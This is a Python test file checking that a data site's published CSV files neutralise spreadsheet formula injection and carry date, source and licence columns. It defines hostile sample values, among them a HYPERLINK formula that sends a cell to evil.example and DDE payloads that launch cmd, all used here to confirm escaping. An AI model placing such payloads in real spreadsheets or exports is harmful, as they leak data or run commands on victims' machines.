"""Issue 40 (CSV formula injection) and issue 46 (what the chart CSVs carry), without a build:
every CSV the site publishes (``api/v2/*.csv``, ``embed/<id>/data.csv`` and
``data-wide.csv``) is written by ``site.safecsv``, so catalog text that starts like a
spreadsheet formula lands as text (a leading quote, as OWASP recommends) while numbers,
negative ones included, stay numbers; the chart CSVs carry the data's date, the sources' titles
and URLs and the licence (``data-wide.csv`` on every row, ``data.csv`` on each curve's
first row: issue 47)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from helpers_catalog import replace_in
from helpers_charts import fitted_catalog_dir
from test_embeds_files import pandas_default_rows

from tinkernomics.catalog.entries import Catalog
from tinkernomics.catalog.loader import load_valid_catalog
from tinkernomics.site import safecsv
from tinkernomics.site.api.files import render_api
from tinkernomics.site.charts import data as chartdata
from tinkernomics.site.charts import spec as charts

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A2,"DAPO")'
HOSTILE_MODEL = "+cmd|' /C calc'!A0"
HOSTILE_DATASET = "@SUM(1+1)*cmd|' /C calc'!A0"
DATE = "2026-11-30"
FORMULA_START = tuple("=+-@\t\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Catalog:
    """The fitted fixture catalog whose DAPO has a formula for a name, model and dataset."""
    root = fitted_catalog_dir(tmp_path_factory.mktemp("hostile"))
    text = (root / "algorithms" / "dapo.yaml").read_text(encoding="utf-8")
    model = next(line for line in text.splitlines() if line.startswith("  model:"))
    dataset = next(line for line in text.splitlines() if line.startswith("  dataset:"))
    replace_in(root, "algorithms/dapo.yaml", "\nname: DAPO\n", f"\nname: '{HOSTILE_NAME}'\n")
    replace_in(root, "algorithms/dapo.yaml", model, f'  model: "{HOSTILE_MODEL}"')
    replace_in(root, "algorithms/dapo.yaml", dataset, f'  dataset: "{HOSTILE_DATASET}"')
    return load_valid_catalog(root)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str, name: str) -> None:
    """No cell of ``text`` starts like a formula unless it is a plain number."""
    live = [c for c in _cells(text) if c.startswith(FORMULA_START)
            and not safecsv._PLAIN_NUMBER.fullmatch(c)]
    assert not live, f"{name}: {live[:5]}"


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-0.5", "-0.5"), ("+3e-4", "+3e-4"),
    ("DAPO", "DAPO"), ("a=b", "a=b"), ("", ""),
])
def test_a_text_cell_that_starts_a_formula_is_quoted(text: str, written: str) -> None:
    assert safecsv.neutralise(text) == written


def test_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(safecsv.csv_text(["x", "y"], [[-0.5, -3], ["-1", "="]]))))
    assert rows[1:] == [["-0.5", "-3"], ["-1", "'="]]


def test_the_chart_csvs_neutralise_a_hostile_name(hostile: Catalog) -> None:
    comparison = charts.build_chart(hostile, charts.COMPARISON_ID, date=DATE)
    own = charts.build_chart(hostile, "scalerl-dapo", date=DATE)
    for chart in (comparison, own):
        long = chartdata.to_csv(chart, "https://example.org/tn/")
        _assert_inert(long, f"{chart.id}/data.csv")
        _assert_inert(chartdata.to_wide_csv(chart), f"{chart.id}/data-wide.csv")
        names = {r["algorithm"] for r in pandas_default_rows(long)}
        assert "'" + HOSTILE_NAME in names


def test_the_api_csvs_neutralise_hostile_text(hostile: Catalog) -> None:
    files = render_api(hostile, last_changed=dt.datetime(2026, 11, 30, tzinfo=dt.UTC))
    written = {name: body.decode("utf-8") for name, body in files.items()
               if name.endswith(".csv")}
    assert {"algorithms.csv", "scalerl.csv"} <= set(written)
    for name, text in written.items():
        _assert_inert(text, name)
    scalerl = list(csv.DictReader(io.StringIO(written["scalerl.csv"])))
    dapo = next(r for r in scalerl if r["algorithm"] == "dapo")
    assert (dapo["name"], dapo["model"], dapo["dataset"]) == (
        "'" + HOSTILE_NAME, "'" + HOSTILE_MODEL, "'" + HOSTILE_DATASET)


def test_chart_csvs_carry_date_sources_and_licence(tmp_path: Path) -> None:
    catalog = load_valid_catalog(fitted_catalog_dir(tmp_path))
    chart = charts.build_chart(catalog, charts.COMPARISON_ID, date=DATE)
    refs = {r.id: r for r in chart.sources}
    long = pandas_default_rows(chartdata.to_csv(chart, "https://example.org/tn/"))
    firsts = long[::charts.CURVE_POINTS]  # data.csv: each curve's first row (issue 47)
    assert len(firsts) == len(chart.series) >= 2
    assert all(r[c] == "" for i, r in enumerate(long) if i % charts.CURVE_POINTS
               for c in chartdata.PROVENANCE_COLUMNS)
    for rows in (firsts,
                 pandas_default_rows(chartdata.to_wide_csv(chart, "https://example.org/tn/"))):
        assert rows and all(r["data_date"] == DATE for r in rows)
        assert all(r["licence"] == "CC BY 4.0" and r["licence_url"].startswith("https://")
                   for r in rows)
        for r in rows:
            assert r["sources"] and not set(r["sources"].split("; ")) & set(refs)  # no bare ids
            assert set(r["sources"].split("; ")) <= {ref.title for ref in refs.values()}
            urls = {ref.url for ref in refs.values() if ref.url}
            assert set(r["source_urls"].split()) <= urls
        assert rows[0]["page"] == "https://example.org/tn/algorithms/"
        assert float(rows[0]["gb200_hours"]) > 0


def test_api_csvs_carry_source_titles_urls_date_and_licence(hostile: Catalog) -> None:
    files = render_api(hostile, last_changed=dt.datetime(2026, 11, 30, 9, tzinfo=dt.UTC))
    for name in ("algorithms.csv", "prices.csv", "scalerl.csv", "scalerl_curves.csv"):
        rows = pandas_default_rows(files[name].decode("utf-8"))
        assert rows and all(r["data_last_changed"] == DATE and r["licence"] == "CC BY 4.0"
                            for r in rows), name
        for row in rows:
            for column in [c for c in row if c == "source" or c.endswith("_source")]:
                ref = hostile.references.get(row[column])
                if ref is not None:
                    assert row[f"{column}_title"] == safecsv.neutralise(ref.title), column
                    assert row[f"{column}_url"] == (ref.url or ""), column


def test_data_json_says_what_the_provenance_columns_hold(tmp_path: Path) -> None:
    chart = charts.build_chart(load_valid_catalog(fitted_catalog_dir(tmp_path)),
                               charts.COMPARISON_ID, date=DATE)
    described = chartdata.to_json(chart)["csv"]["provenance"]
    assert set(described) == set(chartdata.PROVENANCE_COLUMNS)
